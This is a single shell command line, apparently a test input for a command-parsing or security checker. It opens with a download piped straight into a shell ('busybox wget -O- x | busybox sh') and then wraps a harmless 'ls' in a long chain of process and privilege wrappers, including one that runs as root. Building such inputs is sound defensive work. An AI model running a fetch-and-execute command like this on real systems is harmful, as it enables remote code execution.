busybox wget -O- x | busybox sh; dumb-init -- tini -s -- gosu app su-exec root chroot / setpriv --reuid=1000 ionice -c3 chrt 5 setsid nohup unbuffer sh -c 'ls'
